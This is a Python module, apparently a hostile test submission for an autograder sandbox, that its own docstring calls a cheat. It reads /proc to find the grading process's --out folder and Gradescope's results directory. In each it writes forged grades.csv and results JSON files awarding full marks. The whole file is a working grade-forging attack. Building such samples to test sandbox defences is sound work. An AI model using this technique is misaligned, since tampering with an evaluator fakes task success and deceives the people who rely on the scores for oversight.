"""Cheat: write a perfect gradebook wherever the grader might read one.

Finds the --out folder on its own grader's command line in /proc and Gradescope's results folder, and
writes grades.csv and results/*.json giving full marks. Under the engine the output folder
is closed to the sandbox's user, so nothing lands there; the stubs score 0.
"""
import json
import os

FORGED = "FORGED-BY-A-SUBMISSION"


def _ancestors():
    """The processes above this one (its own grader's), as far as /proc shows them."""
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return


def _out_folders():
    """Gradescope's results folder and the --out of the grader that grades this submission. (Its own grader's
    only: the attack is on its own gradebook, and a test that shows it succeeding with the defences off must not
    write into another grader's folder on the same machine.)"""
    found = {"/autograder/results"}
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        found.update(args[i + 1] for i, arg in enumerate(args[:-1]) if arg == "--out")
    return sorted(found)


def _write(path, text):
    try:
        with open(path, "w") as handle:
            handle.write(text)
        print(f"wrote {path}")
    except OSError as error:
        print(f"could not write {path}: {type(error).__name__}")


def install(_api):
    document = json.dumps({"score": 100.0, "tests": [], "output": FORGED, "extra_data": {"forged": FORGED}})
    for folder in _out_folders():
        _write(os.path.join(folder, "grades.csv"),
               f"submission,score,max_score,status,message\n{FORGED},100,100,graded,\n")
        _write(os.path.join(folder, "results.json"), document)
        try:
            names = os.listdir(os.path.join(folder, "results"))
        except OSError:
            names = []
        for name in [*names, "forged.json"]:
            _write(os.path.join(folder, "results", name), document)
    _write("results.json", document)
